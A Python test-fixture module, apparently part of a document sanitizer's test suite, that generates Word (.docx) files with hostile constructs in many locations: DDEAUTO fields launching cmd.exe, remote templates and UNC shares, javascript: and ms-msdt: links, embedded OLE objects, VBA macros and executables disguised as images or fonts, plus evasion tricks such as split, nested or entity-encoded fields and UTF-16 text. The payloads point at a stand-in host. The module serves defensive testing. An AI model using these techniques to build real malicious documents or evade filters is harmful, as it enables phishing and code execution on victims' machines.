"""Word files that run, fetch or carry, in every place that Word knows; each written in several ways."""

from collections.abc import Callable, Iterator

from tests.hostile.cases import MARK, Case
from tests.hostile.cases import TEXT_MARK as EVIL
from tests.hostile.office_writer import HEAD, MAIN, NAMES, Package, W, word

HERE = f"http://{EVIL}.example/"
EXECUTABLE = b"MZ" + MARK * 9
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK * 9
Place = Callable[[Package], None]


def field(instruction: str, result: str = "shown") -> str:
    """A field of marks, instruction and result."""
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def body(package: Package, markup: str) -> None:
    package.body += markup


def simple(package: Package, instruction: str) -> None:
    body(
        package, f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'
    )


def split(package: Package, *pieces: str) -> None:
    """An instruction in several runs, as Word itself splits it."""
    runs = "</w:instrText></w:r><w:r><w:instrText>".join(pieces)
    body(package, field(runs))


def nested(package: Package, inner: str, rest: str) -> None:
    """A field whose instruction begins with what another field shows."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    inside = field(inner, "DDEAUTO").removeprefix("<w:p>").removesuffix("</w:p>")
    body(package, f"<w:p>{begin}{inside}<w:r><w:instrText>{rest}</w:instrText></w:r>{end}</w:p>")


def link(package: Package, target: str) -> None:
    identity = package.tie("hyperlink", target, outside=True)
    body(package, f'<w:p><w:hyperlink r:id="{identity}"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>')


def part(
    package: Package, kind: str, name: str, content: str | bytes, markup: str, content_type: str = ""
) -> None:
    """A part, and markup of the text that leads to it by {id}."""
    body(package, markup.replace("{id}", package.hang(kind, name, content, content_type)))


def outside(package: Package, kind: str, markup: str, target: str = HERE) -> None:
    """A tie that leads out, and markup that uses it."""
    body(package, markup.replace("{id}", package.tie(kind, target, outside=True)))


def setting(package: Package, kind: str, markup: str, target: str = HERE + "a.dotm") -> None:
    package.more += markup.replace("{id}", package.tie(kind, target, owner="word/settings.xml", outside=True))


def aside(package: Package, kind: str, root: str, markup: str) -> None:
    """The markup in a header, a footnote or whatever else stands beside the text."""
    name = f"word/{kind}1.xml"
    content = f'{HEAD}<w:{root} xmlns:w="{W}" {NAMES}>{markup}</w:{root}>'
    identity = package.hang(kind, name, content, f"{MAIN}wordprocessingml.{kind}+xml")
    if kind in {"header", "footer"}:
        package.parts[package.main] = str(package.parts[package.main]).replace(
            "<w:sectPr/>", f'<w:sectPr><w:{kind}Reference r:id="{identity}"/></w:sectPr>'
        )


def macros(package: Package) -> None:
    package.types[package.main] = "application/vnd.ms-word.document.macroEnabled.main+xml"
    name = "word/vbaProject.bin"
    owner = "http://schemas.microsoft.com/office/2006/relationships/"
    package.hang(owner + "vbaProject", name, OLE, "application/vnd.ms-office.vbaProject")
    package.add("word/vbaData.xml", f"<a>{EVIL}</a>", "application/vnd.ms-word.vbaData+xml")
    package.tie(owner + "wordVbaData", "word/vbaData.xml", owner=name)


INSTRUCTIONS = (
    f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k {EVIL}"',
    f'DDE Excel "{EVIL}.xlsx" A1',
    f'INCLUDEPICTURE "{HERE}a.png" \\d',
    f'INCLUDETEXT "\\\\\\\\{EVIL}\\\\a.docx"',
    f'INCLUDE "{HERE}"',
    f'IMPORT "{HERE}a.png"',
    f'LINK Excel.Sheet.8 "\\\\\\\\{EVIL}\\\\a.xls" "A!R1C1" \\a \\r',
    f'DATABASE \\d "{HERE}" \\s "select"',
    f'RD "{HERE}a.docx"',
    f"MACROBUTTON {EVIL} click",
    f"GOTOBUTTON {EVIL} click",
    f"AUTOTEXT {EVIL}",
    f"ADDIN {EVIL}",
    f"PRINT \\p page {EVIL}",
    f"FILLIN {EVIL}",
    f"ASK x {EVIL}",
    f"HTMLCONTROL {EVIL}",
    f"EMBED Package {EVIL}",
    f"CONTROL Shell.Explorer.{EVIL}",
    f'HYPERLINK "javascript:{EVIL}"',
    f'HYPERLINK "file:///c:/{EVIL}.exe"',
    f'HYPERLINK "\\\\\\\\{EVIL}\\\\a" \\t "_blank"',
    f'HYPERLINK "ms-msdt:/id {EVIL}"',
    f'dDeAuTo cmd "{EVIL}"',
    f'\\ DDEAUTO cmd "{EVIL}"',
)
ADDRESSES = (
    "javascript:",
    "file:///c:/",
    "\\\\",
    "ms-msdt:/id ",
    "search-ms:query=",
    "ms-word:ofe|u|http://",
    "vbscript:",
    "data:text/html,",
    "mk:@MSITStore:",
    "../",
)
OBJECT = '<w:p><w:r><w:object><v:shape/><o:OLEObject Type="Embed" ProgID="Package" r:id="{id}"/></w:object></w:r></w:p>'
BLIP = '<w:p><w:r><w:drawing><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="{id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></w:drawing></w:r></w:p>'
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
PLACES: dict[str, Place] = {
    "macros": macros,
    **{
        f"field {text.split()[0]} {number}": lambda p, t=text: body(p, field(t))
        for number, text in enumerate(INSTRUCTIONS)
    },
    "simple field": lambda p: simple(p, f"DDEAUTO cmd {EVIL}"),
    "simple field of a picture": lambda p: simple(p, f"INCLUDEPICTURE {HERE}"),
    "simple link": lambda p: simple(p, f"HYPERLINK javascript:{EVIL}"),
    "field in pieces": lambda p: split(p, "DD", "EAU", f"TO cmd {EVIL}"),
    "field in a field": lambda p: nested(p, "QUOTE 68 68 69 65 85 84 79", f" cmd {EVIL}"),
    "field in a field that asks": lambda p: nested(p, f"FILLIN {EVIL}", f" cmd {EVIL}"),
    "field by numbers": lambda p: body(p, field(f"&#68;DE&#x41;UTO cmd {EVIL}")),
    "field never closed": lambda p: body(
        p,
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd {EVIL}</w:instrText></w:r></w:p>',
    ),
    "field that was deleted": lambda p: body(
        p, field("DDE").replace("instrText", "delInstrText").replace(">DDE<", f">DDE cmd {EVIL}<")
    ),
    **{f"link {address.split('/')[0]}": lambda p, a=address: link(p, a + EVIL) for address in ADDRESSES},
    "template from elsewhere": lambda p: setting(p, "attachedTemplate", '<w:attachedTemplate r:id="{id}"/>'),
    "template from a share": lambda p: setting(
        p, "attachedTemplate", '<w:attachedTemplate r:id="{id}"/>', f"\\\\{EVIL}\\a.dotm"
    ),
    "letters from a database": lambda p: setting(
        p,
        "mailMergeSource",
        f'<w:mailMerge><w:query w:val="{EVIL}"/><w:dataSource r:id="{{id}}"/></w:mailMerge>',
    ),
    "style sheet on saving": lambda p: setting(p, "transform", '<w:saveThroughXslt r:id="{id}"/>'),
    "variables": lambda p: setattr(
        p, "more", f'<w:docVars><w:docVar w:name="a" w:val="{EVIL}"/></w:docVars>'
    ),
    **{
        f"text to import {ending}": lambda p, e=ending: part(
            p,
            "aFChunk",
            f"word/a.{e}",
            f"<html><script>{EVIL}</script></html>",
            '<w:altChunk r:id="{id}"/>',
            "text/html",
        )
        for ending in ("html", "mht", "rtf", "xml")
    },
    "object": lambda p: part(p, "oleObject", "word/embeddings/oleObject1.bin", OLE, OBJECT),
    "object under another name": lambda p: part(p, "oleObject", "word/media/image7.xml", OLE, OBJECT),
    "package in it": lambda p: part(p, "package", "word/embeddings/a.docx", EXECUTABLE, OBJECT),
    "object elsewhere": lambda p: outside(p, "oleObject", OBJECT.replace("Embed", "Link"), HERE + "a.html!"),
    "object elsewhere by mhtml": lambda p: outside(
        p, "oleObject", OBJECT.replace("Embed", "Link"), f"mhtml:{HERE}!x-usc:{HERE}"
    ),
    "picture elsewhere": lambda p: outside(p, "image", BLIP, HERE + "a.png"),
    "picture on a share": lambda p: outside(p, "image", BLIP, f"file://///{EVIL}/a.png"),
    "drawing elsewhere": lambda p: body(
        p, f'<w:p><w:r><w:pict><v:shape><v:imagedata src="{HERE}"/></v:shape></w:pict></w:r></w:p>'
    ),
    "drawing with a link": lambda p: body(
        p, f'<w:p><w:r><w:pict><v:shape href="javascript:{EVIL}"/></w:pict></w:r></w:p>'
    ),
    "drawing with an office link": lambda p: body(
        p, f'<w:p><w:r><w:pict><v:shape><v:imagedata o:href="{HERE}"/></v:shape></w:pict></w:r></w:p>'
    ),
    "drawing with a script": lambda p: body(
        p, f'<w:p><w:r><w:pict><v:shape onclick="{EVIL}"/></w:pict></w:r></w:p>'
    ),
    "document in the document": lambda p: outside(
        p, "subDocument", '<w:subDoc r:id="{id}"/>', HERE + "a.docx"
    ),
    "frames": lambda p: (
        p.hang(
            "webSettings",
            "word/webSettings.xml",
            f'<w:webSettings xmlns:w="{W}"><w:frameset><w:frame><w:sourceFileName>{EVIL}</w:sourceFileName></w:frame></w:frameset></w:webSettings>',
        )
        and None
    ),
    "control": lambda p: part(
        p,
        "control",
        "word/activeX/activeX1.xml",
        f'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{EVIL}"/>',
        '<w:p><w:r><w:object><w:control r:id="{id}" w:name="a"/></w:object></w:r></w:p>',
    ),
    "control's memory": lambda p: (
        p.hang(MICROSOFT + "activeXControlBinary", "word/activeX/activeX1.bin", OLE) and None
    ),
    "custom XML": lambda p: p.hang("customXml", "customXml/item1.xml", f"<a>{EVIL}</a>") and None,
    "bound to data": lambda p: body(
        p,
        f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="{EVIL}"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>',
    ),
    "building blocks": lambda p: (
        p.hang(
            "glossaryDocument",
            "word/glossary/document.xml",
            f"<w:glossaryDocument xmlns:w='{W}'><w:t>{EVIL}</w:t></w:glossaryDocument>",
        )
        and None
    ),
    "keys": lambda p: (
        p.hang(MICROSOFT + "keyMapCustomizations", "word/customizations.xml", f"<a>{EVIL}</a>") and None
    ),
    "ribbon": lambda p: (
        p.add("customUI/customUI14.xml", f'<customUI onLoad="{EVIL}"/>'),
        p.tie(
            "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
            "customUI/customUI14.xml",
            owner="",
        ),
    )[0],
    "web extension": lambda p: (
        p.add("word/webextensions/taskpanes.xml", f"<a>{EVIL}</a>"),
        p.tie(
            "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
            "word/webextensions/taskpanes.xml",
            owner="",
        ),
    )[0],
    "signature": lambda p: (
        p.add("_xmlsignatures/sig1.xml", f"<a>{EVIL}</a>"),
        p.tie(
            "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
            "_xmlsignatures/sig1.xml",
            owner="",
        ),
    )[0],
    "small picture": lambda p: (
        p.add("docProps/thumbnail.jpeg", MARK),
        p.tie(
            "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
            "docProps/thumbnail.jpeg",
            owner="",
        ),
    )[0],
    "company": lambda p: (
        p.add("docProps/app.xml", f"<Properties><Company>{EVIL}</Company></Properties>"),
        p.tie("extended-properties", "docProps/app.xml", owner=""),
    )[0],
    "author": lambda p: (
        p.add(
            "docProps/core.xml",
            f'<a xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{EVIL}</dc:creator></a>',
        ),
        p.tie(
            "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
            "docProps/core.xml",
            owner="",
        ),
    )[0],
    "printer": lambda p: p.hang("printerSettings", "word/printerSettings1.bin", MARK) and None,
    "part that nothing leads to": lambda p: p.add("word/evil.exe", EXECUTABLE),
    "type that nobody knows": lambda p: p.hang("urn:evil/thing", "word/thing.xml", f"<a>{EVIL}</a>") and None,
    "picture that is a program": lambda p: p.hang("image", "word/media/image1.png", EXECUTABLE) and None,
    "picture that is a page": lambda p: (
        p.hang("image", "word/media/image1.png", f"<html><script>{EVIL}</script></html>") and None
    ),
    "font that is a program": lambda p: (
        p.hang("fontTable", "word/fontTable.xml", f'<w:fonts xmlns:w="{W}"/>')
        and (
            p.add("word/fonts/font1.exe", EXECUTABLE),
            p.tie("font", "word/fonts/font1.exe", owner="word/fontTable.xml"),
        )[0]
    ),
    "comment beside the text": lambda p: body(p, f"<!-- {EVIL} --><?php {EVIL} ?>"),
    "media": lambda p: body(p, f'<w:p><w:movie r:id="t99" w:name="{EVIL}"/></w:p>'),
    "anchor of a script": lambda p: body(
        p, f"<w:p><w:r><w:scriptAnchor><w:scriptText>{EVIL}</w:scriptText></w:scriptAnchor></w:r></w:p>"
    ),
    **{
        f"field in {kind}": lambda p, k=kind, r=root: aside(
            p, k, r, f"<w:a>{field(f'DDEAUTO cmd {EVIL}')}</w:a>"
        )
        for kind, root in (
            ("header", "hdr"),
            ("footer", "ftr"),
            ("footnotes", "footnotes"),
            ("endnotes", "endnotes"),
            ("comments", "comments"),
        )
    },
    "field in a text box": lambda p: body(
        p,
        f"<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>{field(f'DDE cmd {EVIL}')}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
    ),
    "field in another choice": lambda p: body(
        p,
        f'<mc:AlternateContent><mc:Choice Requires="v">{field(f"DDE cmd {EVIL}")}</mc:Choice><mc:Fallback>{field(f"DDE b {EVIL}")}</mc:Fallback></mc:AlternateContent>',
    ),
}


def plain(package: Package) -> bytes:
    return package.bytes()


def other_prefix(package: Package) -> bytes:
    """With q: where everybody writes w:."""
    for name, content in package.written().items():
        if name.startswith("word/") and name.endswith(".xml") and isinstance(content, str):
            package.parts[name] = (
                content.replace("<w:", "<q:")
                .replace("</w:", "</q:")
                .replace(" w:", " q:")
                .replace("xmlns:w=", "xmlns:q=")
            )
    return package.bytes()


def in_utf_16(package: Package) -> bytes:
    """With the text in UTF-16, in which a search for letters finds nothing."""
    whole = str(package.written()[package.main])
    package.parts[package.main] = whole.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    return package.bytes()


def strict(package: Package) -> bytes:
    """In the standard's strict words, which only few programs write."""
    for owner, ties in package.ties.items():
        package.ties[owner] = [
            tie.replace(
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                "http://purl.oclc.org/ooxml/officeDocument/relationships",
            )
            for tie in ties
        ]
    return package.bytes()


WRITINGS = {"plain": plain, "other prefix": other_prefix, "in UTF-16": in_utf_16, "strict": strict}


def cases() -> Iterator[Case]:
    """Every place plainly and in two other writings by turns; all must come through without what acts."""
    others = list(WRITINGS)[1:]
    for number, (place, put) in enumerate(PLACES.items()):
        for way in ("plain", others[number % 3]):
            yield Case(f"docx {place}, {way}", _maker(put, WRITINGS[way]), "cleaned")


def _maker(put: Place, write: Callable[[Package], bytes]) -> Callable[[], bytes]:
    def make() -> bytes:
        package = word()
        put(package)
        return write(package)

    return make
